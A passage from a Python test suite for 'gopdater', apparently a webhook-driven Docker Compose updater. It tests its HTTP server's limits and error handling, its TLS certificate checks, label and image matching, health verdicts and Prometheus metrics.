        them are held: a keep-alive client already answered outlives a burst of 20 silent connects."""
        self.start(max_connections=8)
        client = http.client.HTTPConnection("127.0.0.1", self.port, timeout=5)
        self.addCleanup(client.close)
        client.request("GET", "/healthz")
        self.assertEqual(client.getresponse().read(), b'{"status": "ok"}')
        with self.assertLogs("gopdater", "WARNING"):
            silent = [socket.create_connection(("127.0.0.1", self.port), timeout=5) for _ in range(20)]
            for sock in silent:
                self.addCleanup(sock.close)
            self.assertTrue(silent[0].recv(1024).startswith(b"HTTP/1.1 503"))
        client.request("GET", "/healthz")
        self.assertEqual(client.getresponse().status, 200)

    def test_expect_100_continue_gets_its_interim_answer(self):
        """A client that waits for 100 Continue (as curl does over 1 KiB) gets it and then its answer."""
        self.start()
        body = json.dumps({**payload("dockerhub-push.json"), "padding": "x" * 2000}).encode()
        head = (f"POST /hooks/{SECRET} HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nConnection: close\r\n"
                f"Content-Length: {len(body)}\r\n\r\n").encode()
        with socket.create_connection(("127.0.0.1", self.port), timeout=5) as sock:
            sock.sendall(head)
            self.assertEqual(sock.recv(100), b"HTTP/1.1 100 Continue\r\n\r\n")
            sock.sendall(body)
            answer = b"".join(iter(lambda: sock.recv(65536), b""))
        self.assertTrue(answer.startswith(b"HTTP/1.1 202"), answer[:40])

    def test_slow_client_is_timed_out(self):
        """A client that never finishes its request gets 408 after REQUEST_TIMEOUT."""
        self.start(request_timeout=0.3)
        with self.assertLogs("gopdater", "WARNING"):
            started = time.monotonic()
            answer = self.raw(f"POST /hooks/{SECRET} HTTP/1.1\r\nContent-Length: 50\r\n\r\n{{".encode())
        self.assertTrue(answer.startswith(b"HTTP/1.1 408"), answer[:40])
        self.assertLess(time.monotonic() - started, 3)

    def test_deployments_view_over_http(self):
        """GET /deployments with the bearer secret returns JSON; without it 403."""
        self.start()
        with self.assertLogs("gopdater", "WARNING"):
            self.assertEqual(self.request("GET", "/deployments")[0], 403)
        status, reply, _ = self.request("GET", "/deployments", Authorization=f"Bearer {SECRET}")
        self.assertEqual((status, reply), (200, {"deployments": []}))

    def test_keep_alive_holds_for_rejected_and_accepted_requests(self):
        """One connection carries a 403, a 404, a 200 and a 202 in turn: rejections do not close it."""
        self.start()
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=5)
        self.addCleanup(connection.close)
        body = json.dumps(payload("dockerhub-push.json"))
        sockets = []
        with self.assertLogs("gopdater", "INFO"):
            for method, path, expected in [("POST", "/hooks/wrong-secret-0123456789", 403), ("GET", "/nope", 404),
                                           ("GET", "/healthz", 200), ("POST", f"/hooks/{SECRET}", 202)]:
                connection.request(method, path, body=body if method == "POST" else None)
                response = connection.getresponse()
                self.assertEqual(response.status, expected)
                self.assertEqual(response.getheader("Connection"), "keep-alive")
                response.read()
                sockets.append(connection.sock)
        self.assertTrue(all(sock is sockets[0] for sock in sockets), "one connection throughout")

    def test_pipelined_requests_are_answered_in_order(self):
        """Two requests sent at once on one connection get two answers, in order."""
        self.start()
        wrong = "POST /hooks/wrong-secret-0123456789 HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}"
        last = "GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n"
        with self.assertLogs("gopdater", "INFO"):
            answer = self.raw((wrong + last).encode())
        self.assertEqual(re.findall(rb"HTTP/1\.1 (\d+)", answer), [b"403", b"200"])

    def test_malformed_request_closes_the_connection(self):
        """After a malformed request line the server answers 400 and closes, whatever the client asked."""
        self.start()
        with self.assertLogs("gopdater", "WARNING"):
            answer = self.raw(b"GARBAGE\r\nConnection: keep-alive\r\n\r\nGET /healthz HTTP/1.1\r\n\r\n")
        self.assertEqual(re.findall(rb"HTTP/1\.1 (\d+)", answer), [b"400"])
        self.assertIn(b"Connection: close", answer)

    def test_huge_header_is_refused_with_431(self):
        """A head over 16 KiB gets 431 and the connection closes."""
        self.start()
        with self.assertLogs("gopdater", "WARNING"):
            answer = self.raw(b"GET /healthz HTTP/1.1\r\nX-Big: " + b"a" * 20000 + b"\r\n\r\n")
        self.assertTrue(answer.startswith(b"HTTP/1.1 431"), answer[:40])

    def test_hook_that_arrives_before_discovery_is_answered_once_it_is_done(self):
        """The port answers at once; a hook sent before the project is read waits for it, then gets 202."""
        self.rig = Rig(self)
        app = gopdater.App(self.rig.config, None, self.rig.metrics)
        server = gopdater.HookServer(gopdater.listen("127.0.0.1", 0), app)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        self.addCleanup(thread.join, 10)
        self.addCleanup(server.shutdown)
        self.port = server.server_address[1]
        self.assertEqual(self.request("GET", "/healthz")[0], 200)
        answers = []
        body = json.dumps(payload("dockerhub-push.json"))
        waiting = threading.Thread(target=lambda: answers.append(self.request("POST", f"/hooks/{SECRET}", body)))
        with self.assertLogs("gopdater", "INFO"):
            waiting.start()
            self.addCleanup(waiting.join, 5)
            deadline = time.monotonic() + 5
            while server.held() != 1:  # the hook has arrived and is held for start-up
                self.assertLess(time.monotonic(), deadline, "the hook was held for start-up")
                time.sleep(0.01)
            app.queue = self.rig.queue  # without a queue an answer could only be an error
            server.mark_ready()
            waiting.join(5)
        self.assertEqual(answers[0][0], 202)

    def test_a_bug_ends_one_connection_with_500_and_its_traceback_is_logged_once(self):
        """A request whose handling raises gets 500 and a closed connection; the traceback is logged for the
        first only, and the server goes on serving."""
        class Exploding:
            working, stopping = True, False

            def submit(self, event):
                raise RuntimeError("a bug")
        rig = Rig(self)
        server = gopdater.HookServer(gopdater.listen("127.0.0.1", 0), gopdater.App(rig.config, Exploding()))
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        self.addCleanup(thread.join, 10)
        self.addCleanup(server.shutdown)
        self.port = server.server_address[1]
        body = json.dumps(payload("dockerhub-push.json"))
        with self.assertLogs("gopdater", "INFO") as logs:
            for _ in range(3):
                status, _, response = self.request("POST", f"/hooks/{SECRET}", body)
                self.assertEqual((status, response.getheader("Connection")), (500, "close"))
            self.assertEqual(self.request("GET", "/healthz")[0], 200)
        self.assertEqual(sum("Traceback" in line for line in logs.output), 1)
        self.assertIn("RuntimeError: a bug", "\n".join(logs.output))

    def test_healthz_answers_are_logged_at_debug_only(self):
        """A monitoring probe's /healthz is not an INFO line per request; other answers are."""
        self.start()
        with self.assertLogs("gopdater", "DEBUG") as logs:
            self.request("GET", "/healthz")
            self.request("GET", "/deployments", Authorization=f"Bearer {SECRET}")
        levels = {record.getMessage().split('"')[1]: record.levelname for record in logs.records if '"' in
                  record.getMessage()}
        self.assertEqual(levels, {"GET /healthz HTTP/1.1": "DEBUG", "GET /deployments HTTP/1.1": "INFO"})

    def test_hook_is_refused_503_when_discovery_takes_too_long(self):
        """A hook waits at most the start-up wait (5 s; 0.2 s here) for start-up, then gets 503."""
        self.rig = Rig(self)
        server = gopdater.HookServer(gopdater.listen("127.0.0.1", 0), gopdater.App(self.rig.config, None),
                                     gopdater.Front(startup_wait=0.2))
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        self.addCleanup(thread.join, 10)
        self.addCleanup(server.shutdown)
        self.port = server.server_address[1]
        with self.assertLogs("gopdater", "WARNING"):
            status = self.request("POST", f"/hooks/{SECRET}", json.dumps(payload("dockerhub-push.json")))[0]
        self.assertEqual(status, 503)


class TLSTest(unittest.TestCase):
    """TLS_CERT and TLS_KEY, checked with certificates openssl makes for the test."""

    def certificate(self, name, days=30):
        folder = pathlib.Path(state_folder(self))
        cert, key = folder / f"{name}.crt", folder / f"{name}.key"
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
                        "-nodes", "-keyout", str(key), "-out", str(cert), "-days", str(days), "-subj", f"/CN={name}"],
                       check=True, capture_output=True)
        return str(cert), str(key)

    def test_the_expiry_date_is_read_from_the_certificate(self):
        """certificate_expiry reads the same notAfter as openssl, first certificate of a chain."""
        cert, _ = self.certificate("site", days=40)
        shown = subprocess.run(["openssl", "x509", "-enddate", "-noout", "-in", cert], capture_output=True,
                               text=True, check=True).stdout.strip().split("=", 1)[1]
        expected = gopdater.datetime.strptime(shown, "%b %d %H:%M:%S %Y %Z").replace(tzinfo=gopdater.timezone.utc)
        chain = pathlib.Path(cert).read_text() * 2
        self.assertEqual(gopdater.certificate_expiry(chain), expected)

    def test_check_says_whether_the_pair_loads_and_when_it_expires(self):
        """tls_problem: a good pair, one expiring within 14 days, an expired one, a wrong key, a missing file."""
        cert, key = self.certificate("good", days=60)
        soon, soon_key = self.certificate("soon", days=5)
        _, other_key = self.certificate("other")
        later = gopdater.datetime.now(gopdater.timezone.utc) + datetime.timedelta(days=61)
        cases = [("good", cert, key, None, True, "expires"),
                 ("expiring", soon, soon_key, None, True, "warning: renew it, it expires in 5 days"),
                 ("expired", cert, key, later, False, "expired on"),
                 ("the key of another", cert, other_key, None, False, "do not load"),
                 ("missing", cert + ".gone", key, None, False, "do not load")]
        for name, cert_path, key_path, now, ok, text in cases:
            with self.subTest(name):
                found = gopdater.tls_problem(cert_path, key_path, now)
                self.assertEqual(found[0], ok, found[1])
                self.assertIn(text, found[1])

    def test_check_shows_the_https_url_and_the_certificate(self):
        """--check with TLS files: the webhook URL is https, a line gives the expiry, a wrong key FAILs."""
        cert, key = self.certificate("site")
        _, other = self.certificate("other")
        for key_path, code in ((key, 0), (other, 1)):
            with self.subTest(code=code):
                out = io.StringIO()
                self.assertEqual(gopdater.run_check(make_config(TLS_CERT=cert, TLS_KEY=key_path,
                                                                STATE_DIR=state_folder(self)), FakeDocker(), out=out),
                                 code, out.getvalue())
                self.assertIn("webhook URL for Docker Hub: https://<this-host>:8080/hooks/", out.getvalue())
                self.assertIn("ok   tls: " if code == 0 else "FAIL TLS_CERT", out.getvalue())

    def test_one_of_the_pair_alone_is_a_startup_error(self):
        """TLS_CERT without TLS_KEY (or the other way round) stops start-up naming both."""
        for env in ({"TLS_CERT": "/x.pem"}, {"TLS_KEY": "/x.key"}):
            with self.subTest(env=env), self.assertRaisesRegex(gopdater.ConfigError, "TLS_CERT and TLS_KEY go together"):
                make_config(**env)

    def test_main_exits_2_with_one_line_when_the_pair_does_not_load(self):
        """A key that is not the certificate's stops gopdater with exit 2 and one line, before the port opens."""
        cert, _ = self.certificate("site")
        _, key = self.certificate("other")
        env = {"OWNER": "acme", "WEBHOOK_SECRET": SECRET, "TLS_CERT": cert, "TLS_KEY": key, "PORT": "0",
               "STATE_DIR": state_folder(self)}
        stderr = io.StringIO()
        with mock.patch.dict(os.environ, env, clear=True), contextlib.redirect_stderr(stderr):
            self.assertEqual(gopdater.main([]), 2)
        self.assertEqual(len(stderr.getvalue().strip().splitlines()), 1)
        self.assertIn("do not load", stderr.getvalue())


    def test_an_encrypted_key_is_refused_without_a_prompt(self):
        """A key with a passphrase: --check and start-up say it is encrypted, and a renewal to one keeps the
        previous certificate with a warning saying why (OpenSSL is never left to prompt on a terminal)."""
        cert, key = self.certificate("site")
        locked = str(pathlib.Path(key).with_suffix(".locked"))
        subprocess.run(["openssl", "pkey", "-in", key, "-aes256", "-passout", "pass:hunter2", "-out", locked],
                       check=True, capture_output=True)
        ok, text = gopdater.tls_problem(cert, locked)
        self.assertFalse(ok)
        self.assertIn("the key is encrypted", text)
        files = gopdater.TLSFiles(cert, key)
        before = files.current
        os.replace(locked, key)
        with self.assertLogs("gopdater", "WARNING") as logs:
            self.assertFalse(files.reload())
        self.assertIs(files.current, before)
        self.assertIn("the key is encrypted", "\n".join(logs.output))


class FrontLimitsTest(unittest.TestCase):
    """What bounds the front door besides the requests: file descriptors, asyncio's own errors, closing."""

    def test_connections_are_kept_to_half_the_file_limit(self):
        """connection_cap: MAX_CONNECTIONS, or half the open-file limit if that is lower, never 0."""
        for wanted, limit, cap in ((512, 1024, 512), (512, 20000, 512), (512, 600, 300), (512, 1, 1), (5, 1024, 5)):
            with self.subTest(wanted=wanted, limit=limit):
                self.assertEqual(gopdater.connection_cap(wanted, limit), cap)

    def test_the_soft_file_limit_is_raised_to_the_hard_one(self):
        """raise_file_limit: a soft limit of 1,024 (systemd's) is raised to the hard limit, and returned."""
        import resource
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        self.addCleanup(resource.setrlimit, resource.RLIMIT_NOFILE, (soft, hard))
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(1024, hard), hard))
        expected = hard if hard != resource.RLIM_INFINITY else min(1024, hard)
        self.assertEqual(gopdater.raise_file_limit(), expected)
        self.assertEqual(resource.getrlimit(resource.RLIMIT_NOFILE)[0], expected)

    def server(self):
        server = gopdater.HookServer(gopdater.listen("127.0.0.1", 0), Rig(self).app, gopdater.Front(request_timeout=1.0))
        self.addCleanup(server.close)
        return server

    def test_asyncio_errors_are_logged_once_a_minute_not_per_attempt(self):
        """asyncio's accept out of file descriptors, 1,000 times: one log line."""
        server = self.server()
        error = OSError(24, "Too many open files")
        with self.assertLogs("gopdater", "ERROR") as logs:
            for _ in range(1000):
                server.loop_trouble(None, {"message": "socket.accept() out of system resource",
                                                  "exception": error})
        self.assertEqual(len(logs.output), 1)
        self.assertIn("socket.accept() out of system resource: [Errno 24] Too many open files", logs.output[0])

    def test_an_answer_being_closed_is_cut_only_when_no_byte_left(self):
        """A closing answer with bytes still unsent: kept while some leave each REQUEST_TIMEOUT, aborted when
        none did (asyncio's transport interface, recorded)."""
        connection = gopdater.Connection(self.server())
        transport = RecordingTransport()
        connection.connection_made(transport)
        transport.buffered = 900_000
        with self.assertLogs("gopdater", "WARNING"):  # the refusal, in the access log
            connection.respond(gopdater.refusal(gopdater.HTTPStatus.NOT_FOUND, "not found"), close=True)
        self.assertEqual(transport.calls, ["write", "write_eof"])
        for left in (600_000, 1_000):
            transport.buffered = left
            connection.expire()
            self.assertNotIn("abort", transport.calls, f"{left} bytes left: the answer moved")
        connection.expire()
        self.assertEqual(transport.calls[-1], "abort")


class RecordingTransport:
    """asyncio's transport interface, recording the calls a Connection makes; buffered: bytes not yet sent."""

    def __init__(self):
        self.calls, self.buffered = [], 0

    def get_extra_info(self, name, default=None):
        return ("127.0.0.1", 1) if name == "peername" else default

    def set_write_buffer_limits(self, high=None, low=None):
        pass

    def get_write_buffer_size(self):
        return self.buffered

    def is_closing(self):
        return "abort" in self.calls

    def can_write_eof(self):
        return True

    def __getattr__(self, name):  # write, write_eof, close, abort, pause_reading, resume_reading
        return lambda *args: self.calls.append(name)


# ---------------------------------------------------------------------------------------------
# Health verdicts, metrics and the house rules
# ---------------------------------------------------------------------------------------------


def container(cid="c1", status="running", health=None, restarts=0, started="t1", code=0, check=True, period=0.0):
    """A Container as docker inspect would describe it."""
    return gopdater.Container(cid, "demo-site-1", "site", "demo", "acme/site:latest", NEW_ID, status, health,
                              restarts, started, code, check, period, False)


class OperatorLabelsTest(unittest.TestCase):
    def test_labels_that_steer_gopdater_count_only_where_the_image_did_not_set_them(self):
        """creator_labels: a gopdater.* or com.docker.compose.project.* label equal to the image's is left out
        (gopdater.* ones named); a value of its own, and every other label, is kept. Pure."""
        env_file = "com.docker.compose.project.environment_file"
        cases = [
            ("set by the image alone", {"gopdater.enable": "false"}, {"gopdater.enable": "false"}, {},
             ("gopdater.enable",)),
            ("the operator's value over the image's", {"gopdater.enable": "true"}, {"gopdater.enable": "false"},
             {"gopdater.enable": "true"}, ()),
            ("the env file of the image", {env_file: "/etc/x"}, {env_file: "/etc/x"}, {}, ()),
            ("the env file Compose set", {env_file: "prod.env"}, {env_file: "/etc/x"}, {env_file: "prod.env"}, ()),
            ("Compose's identity labels, on a container Compose made",
             {"com.docker.compose.service": "site", "com.docker.compose.config-hash": "c0ffee"},
             {"com.docker.compose.service": "site"},
             {"com.docker.compose.service": "site", "com.docker.compose.config-hash": "c0ffee"}, ()),
            ("a container Compose did not make (`docker run` of an image carrying Compose's labels)",
             {"com.docker.compose.project": "blog", "com.docker.compose.service": "site", "x": "1"},
             {"com.docker.compose.project": "blog", "com.docker.compose.service": "site"}, {"x": "1"}, ()),
            ("any other label", {"org.opencontainers.image.title": "x"}, {"org.opencontainers.image.title": "x"},
             {"org.opencontainers.image.title": "x"}, ()),
        ]
        for name, labels, carried, kept, ignored in cases:
            with self.subTest(name):
                self.assertEqual(gopdater.creator_labels(labels, carried), (kept, ignored))

    def test_the_hook_timeout_is_a_second_to_a_day(self):
        """gopdater.hook-timeout from 1 to 86,400 s; anything else is a problem and the default stands."""
        for text, timeout, ok in (("1", 1, True), ("86400", 86400, True), ("0.5", 300, False), ("86401", 300, False),
                                  ("1e300", 300, False), ("nan", 300, False), ("-1", 300, False), ("x", 300, False)):
            with self.subTest(text=text):
                steps = gopdater.release_steps({"gopdater.pre-update": "true", "gopdater.hook-timeout": text})
                self.assertEqual((steps.timeout, steps.problem is None), (timeout, ok))
                if not ok:
                    self.assertIn("must be a number of seconds from 1 to 86400", steps.problem)


class MatcherTest(unittest.TestCase):
    def test_which_pushes_update_a_service(self):
        """triggers(): the one decision over SERVICES, the opt-out label, LABEL_ENABLE and OWNER."""
        site = ImageKey("docker.io", "acme/site", "latest")
        evil = ImageKey("docker.io", "evil/site", "latest")
        ref = gopdater.ServiceRef("compose", "demo", "site")
        cases = [
            ({}, site, (), ((site,), "")),
            ({}, None, (), ((), "no running container with a tagged image")),
            ({}, evil, (), ((), "docker.io/evil/site:latest is not in OWNER")),
            ({}, site, ({"gopdater.enable": "false"},), ((), "labelled gopdater.enable=false")),
            ({}, site, ({"gopdater.enable": "true"}, {"gopdater.enable": " FALSE "}), ((), "labelled gopdater.enable=false")),
            ({"LABEL_ENABLE": 1}, site, (), ((), "not labelled gopdater.enable=true (LABEL_ENABLE=1)")),
            ({"LABEL_ENABLE": 1}, site, ({"gopdater.enable": "true"},), ((site,), "")),
            ({"SERVICES": "acme/api=site"}, site, (), ((ImageKey("docker.io", "acme/api", "latest"),), "")),
            ({"SERVICES": "acme/api=demo/site"}, None, (), ((ImageKey("docker.io", "acme/api", "latest"),), "")),
            ({"SERVICES": "acme/api=shop/site"}, site, (), ((), "not in SERVICES")),
            ({"SERVICES": "acme/api=web"}, site, (), ((), "not in SERVICES")),
        ]
        for env, image, labels, expected in cases:
            with self.subTest(env=env, image=image, labels=labels):
                service = gopdater.Running(ref, image, labels)
                self.assertEqual(gopdater.triggers(make_config(**env), service), expected)


class HealthVerdictTest(unittest.TestCase):
    def test_verdicts_for_what_docker_inspect_said(self):
        """judge() is ready, waits or fails (with the reason) from the containers, the time and the limits."""
        V = gopdater.Verdict
        seen = {"c1": (100.0, "t1")}
        cases = [
            ("healthy", [container(health="healthy")], seen, 101, 1, (V.READY, "")),
            ("starting", [container(health="starting")], seen, 101, 1, (V.WAIT, "health starting")),
            ("starting at the limit", [container(health="starting")], seen, 160, 60,
             (V.FAILED, "still health starting after 60s")),
            ("unhealthy", [container(health="unhealthy")], seen, 101, 1,
             (V.FAILED, "container demo-site-1 is unhealthy")),
            ("exited", [container(status="exited", code=3)], {}, 101, 1,
             (V.FAILED, "container demo-site-1 exited with code 3")),
            ("restart count", [container(health="healthy", restarts=1)], seen, 101, 1,
             (V.FAILED, "container demo-site-1 restarted")),
            ("restarted between polls", [container(health="healthy", started="t2")], seen, 101, 1,
             (V.FAILED, "container demo-site-1 restarted")),
            ("restarting", [container(status="restarting")], {}, 101, 1, (V.FAILED, "container demo-site-1 restarted")),
            ("created", [container(status="created")], {}, 101, 1, (V.WAIT, "created")),
            ("no healthcheck, settling", [container(check=False)], seen, 105, 5, (V.WAIT, "settling")),
            ("no healthcheck, settled", [container(check=False)], seen, 110, 10, (V.READY, "")),
            ("one of two missing", [container(health="healthy")], seen, 101, 1, (V.WAIT, "health healthy")),
        ]
        for name, containers, first_seen, now, waited, expected in cases:
            with self.subTest(case=name):
                expected_count = 2 if name == "one of two missing" else 1
                verdict = gopdater.judge(containers, expected_count, first_seen, now, gopdater.Patience(waited, 60, 10))
                self.assertEqual((verdict.verdict, verdict.reason), expected)

    def test_limit_is_the_longest_start_period_plus_settling_without_healthcheck(self):
        """health_limit: HEALTH_TIMEOUT or a longer start_period, plus SETTLE_TIME when one lacks a healthcheck."""
        self.assertEqual(gopdater.health_limit([container()], 60, 10), 60)
        self.assertEqual(gopdater.health_limit([container(period=90)], 60, 10), 90)
        self.assertEqual(gopdater.health_limit([container(), container("c2", check=False)], 60, 10), 70)


EXPOSITION_LINE = re.compile(
    r'^(# HELP [a-z_]+ .+|# TYPE [a-z_]+ (counter|gauge|histogram)|'
    r'[a-z_]+(\{([a-z_]+="([^"\\\n]|\\["\\n])*",)*[a-z_]+="([^"\\\n]|\\["\\n])*"\})? -?[0-9.e+]+)$')


def parse_exposition(text):
    """Check the Prometheus text format line by line; return {sample with labels: value}."""
    assert text.endswith("\n"), "ends with a newline"
    samples, typed = {}, set()
    for line in text.splitlines():
        assert EXPOSITION_LINE.match(line), f"not exposition format: {line!r}"
        if line.startswith("# TYPE"):
            name = line.split()[2]
            assert name not in typed, f"{name} typed twice"
            typed.add(name)
        elif not line.startswith("#"):
            key, value = line.rsplit(" ", 1)
            family = re.sub(r"_(bucket|sum|count)$", "", key.split("{")[0])
            assert family in typed or key.split("{")[0] in typed, f"{key} has no TYPE line before it"
            assert key not in samples, f"{key} twice"
            samples[key] = float(value)
    return samples


class MetricsTest(unittest.TestCase):
    def scrape(self, rig, token=SECRET):
        response = rig.app.handle("GET", "/metrics", headers(Authorization=f"Bearer {token}"), b"")
        return response

    def test_metrics_need_the_bearer_secret(self):
        """GET /metrics without the secret is 403 and reveals nothing."""
        rig = Rig(self)
        self.assertEqual(rig.app.handle("GET", "/metrics", headers(), b"")[:2], gopdater.FORBIDDEN[:2])
        self.assertEqual(self.scrape(rig, "wrong-secret-0123456789").status, HTTPStatus.FORBIDDEN)

    def test_counters_move_as_hooks_arrive_and_deployments_end(self):
        """Hooks by sender and code, deployments by result, durations, outage, last result and queue length."""
        rig = Rig(self)
        before = parse_exposition(self.scrape(rig).payload)
        self.assertEqual(before["gopdater_queue_length"], 0)
        hub = payload("dockerhub-push.json")
        rig.post("/hooks/wrong-secret-0123456789", hub)
        rig.post(f"/hooks/{SECRET}", hub)
        self.assertEqual(parse_exposition(self.scrape(rig).payload)["gopdater_queue_length"], 1)
        rig.start_worker()
        self.assertTrue(rig.queue.wait_idle(10))
        after = parse_exposition(self.scrape(rig).payload)
        self.assertEqual(after['gopdater_hooks_total{sender="dockerhub",code="403"}'], 1)
        self.assertEqual(after['gopdater_hooks_total{sender="dockerhub",code="202"}'], 1)
        self.assertEqual(after['gopdater_deployments_total{result="updated"}'], 1)
        self.assertEqual(after['gopdater_last_deployment_result{service="demo/site",result="updated"}'], 1)
        self.assertEqual(after['gopdater_last_deployment_timestamp_seconds{service="demo/site"}'], rig.clock())
        self.assertEqual(after["gopdater_deployment_duration_seconds_count"], 1)
        self.assertEqual(after['gopdater_outage_seconds_bucket{le="+Inf"}'], 1)
        self.assertEqual(after["gopdater_queue_length"], 0)

    def test_label_values_never_come_from_a_payload(self):
        """Hooks for names nobody runs add no label value: only senders, codes, results and known services."""
        rig = Rig(self)
        hub = payload("dockerhub-push.json")
        for name in ("acme/evil-label", 'acme/x"y'):
            rig.post(f"/hooks/{SECRET}", {**hub, "repository": {"repo_name": name}})
        text = self.scrape(rig).payload
        self.assertNotIn("evil", text)
        self.assertNotIn('x\\"y', text)
        labels = set(re.findall(r'[a-z_]+="([^"]*)"', text))
        senders = {sender.name for sender in gopdater.SENDERS}
        self.assertLessEqual(labels, senders | {"200", "400", "403", "asked", "behind"} | {"+Inf"} |
                             {f"{b:g}" for b in gopdater.DURATION_BUCKETS + gopdater.OUTAGE_BUCKETS})


# The house's map: gopdater.py's banners in the order a webhook flows, each with its sub-banners.
SECTIONS = [  # each banner of gopdater.py, in order, with its sub-banners
    ('Image references', [
        'version channels: which pushed tag a tracked service takes, and where its tag is kept',
    ]),
    ("Docker's vocabulary", [
        'services and what became of their updates',
        'command errors, and the one command runner',
        'a container, as docker inspect shows it',
    ]),
    ('Settings', [
        'update windows: when a deployment may run (UPDATE_WINDOW, the label gopdater.window)',
    ]),
    ('Senders', [
    ]),
    ('The journal', [
        'the record: what every kind journals, and what its kind declares',
        'the journal, and the deployment history',
        'files in STATE_DIR: written whole or not at all, and one gopdater each',
        "the operator's gates: what a deployment waits for, the holds, kept in STATE_DIR",
    ]),
    ('The request pipeline', [
        'what the last reconcile round found: the record the reconciling thread hands to the pages',
        'the status page: one HTML page, no script, no external asset, every value escaped',
        '/metrics: what the pipeline and the work queue count',
        "the operator's forms: an action by POST, each form with a token, never from another site",
        "what the pipeline asks of the work queue and of the operator's desk",
        'the pipeline: route, size, authenticate, decode, parse',
        "the application: every endpoint's answer",
    ]),
    ('The work queue', [
        'deployments, as /deployments shows them',
        'the queue: lanes, bursts coalesced, the engine waited for',
        'what the queue updates: the Target interface, and the one matcher',
        'what a worker does with a deployment: run it through its target, end one that waited',
        "the operator's desk: hold, resume, update now, roll back, approve, reject",
    ]),
    ('Docker commands', [
        'the engine: every docker command',
        "Compose's files: where a project lives, its env files read and rewritten in place",
        'Compose: every Compose command of one project',
    ]),
    ('Update targets', [
        'the health verdict, and several targets as one',
        'the steps any container-based target takes: wait and judge, put a tag back, clean up',
        "Compose: which project gopdater runs in (its own container's labels, or its settings)",
        "release steps: commands from a service's labels around its update",
        'Compose: what an update journals, and what recovery does at each stage',
        "what a Compose update works on: the project as read (its protocol), one deployment's plan",
        "an operator's rollback: back to the image the service ran before its last update",
        'a group: several services of one project on one push, switched in turn, rolled back as one',
        'Compose recovery: what a crash left, made whole as the recovery table says',
        'the Compose project as read: services, containers, operator labels, tracking',
        'the Compose update: one plan, carried out step by step, rolled back as one',
        'every Compose project on the engine (PROJECTS), each run as in its own folder',
        'Swarm: what a Swarm update journals, and what recovery does at each stage',
        'Swarm: services updated by Swarm itself',
    ]),
    ('Reconciling', [
        'one request: a total deadline, a bounded answer, no redirect followed',
        "who may ask: the docker CLI's logins, and the token flow",
        'a round: what is asked, what the answers mean, what is queued',
    ]),
    ('Notifications', [
        'what each service renders: the format follows from the URL, or its #fragment',
    ]),
    ('The HTTP transport', [
        "TLS: a context that follows its files when certbot or a proxy's ACME client replaces them",
        'one connection',
        'the server',
        'TLS over the plain transport: every connection counted from accept',
    ]),
    ('--check', [
    ]),
    ('main', [
        'start-up: the engine, then each kind of target from a table',
        'the process',
    ]),
]


def source_tree():
    import ast
    return ast.parse((HERE / "gopdater.py").read_text())


def definitions(tree):
    """Each top-level name of a module and the line it is first defined on."""
    import ast
    found = {}
    for node in tree.body:
        if isinstance(node, (ast.FunctionDef, ast.ClassDef, ast.AsyncFunctionDef)):
            found.setdefault(node.name, node.lineno)
        elif isinstance(node, (ast.Assign, ast.AnnAssign)):
            for target in (node.targets if isinstance(node, ast.Assign) else [node.target]):
                for name in ast.walk(target):
                    if isinstance(name, ast.Name):
                        found.setdefault(name.id, node.lineno)
    return found


def early_uses(tree):
    """Each module-level name used (in code or in a type hint, quoted or not) more than 300 lines before its
    definition: (name, first use, definition). A name bound in the function using it is that function's own."""
    import ast
    defined, first = definitions(tree), {}

    def use(name, line):
        if name in defined:
            first[name] = min(first.get(name, line), line)

    def hint(node, local):
        for part in ast.walk(node):
            if isinstance(part, ast.Name) and part.id not in local:
                use(part.id, part.lineno)
            elif isinstance(part, ast.Constant) and isinstance(part.value, str):
                for word in re.findall(r"[A-Za-z_]\w*", part.value):
                    if word not in local:
                        use(word, part.lineno)

    def visit(node, local):
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)):
            for default in [*node.args.defaults, *filter(None, node.args.kw_defaults)]:
                visit(default, local)
            if not isinstance(node, ast.Lambda):
                for decorator in node.decorator_list:
                    visit(decorator, local)
                for annotation in [node.returns] + [a.annotation for a in ast.walk(node.args)
                                                    if isinstance(a, ast.arg)]:
                    if annotation is not None:
                        hint(annotation, local)
            own = {a.arg for a in ast.walk(node.args) if isinstance(a, ast.arg)}
            own |= {n.id for n in ast.walk(node) if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Store)}
            own |= {n.name for n in ast.walk(node) if isinstance(n, ast.ExceptHandler) and n.name}
            for child in (node.body if isinstance(node.body, list) else [node.body]):
                visit(child, local | own)
            return
        if isinstance(node, ast.AnnAssign):
            hint(node.annotation, local)
            for child in (node.value, None if isinstance(node.target, ast.Name) else node.target):
                if child is not None:
                    visit(child, local)
            return
        if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Load) and node.id not in local:
            use(node.id, node.lineno)
        for child in ast.iter_child_nodes(node):
            visit(child, local)

    visit(tree, frozenset())
    return sorted((name, line, defined[name]) for name, line in first.items() if defined[name] - line > 300)


def implementation_attributes(tree):
    """The attributes gopdater's objects keep for themselves: set on self, and neither a method, a property, a
    class attribute, a NamedTuple field, nor one of PUBLIC_SEAMS."""
    import ast
    kept, public = set(), {name for names in gopdater.PUBLIC_SEAMS.values() for name in names}
    for cls in (node for node in ast.walk(tree) if isinstance(node, ast.ClassDef)):
        for node in cls.body:
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                public.add(node.name)
            for target in (node.targets if isinstance(node, ast.Assign) else
                           [node.target] if isinstance(node, ast.AnnAssign) else []):
                if isinstance(target, ast.Name):
                    public.add(target.id)
        kept |= {node.attr for node in ast.walk(cls) if isinstance(node, ast.Attribute) and
                 isinstance(node.value, ast.Name) and node.value.id == "self" and isinstance(node.ctx, ast.Store)}
    return kept - public


def stdlib_attributes():
    """Attribute names of the standard library's objects the tests use (sockets, errors, logs, HTTP clients)."""
    import http.client
    kinds = (list, dict, str, bytes, io.TextIOWrapper, socket.socket, OSError, logging.LogRecord, http.client.HTTPConnection,
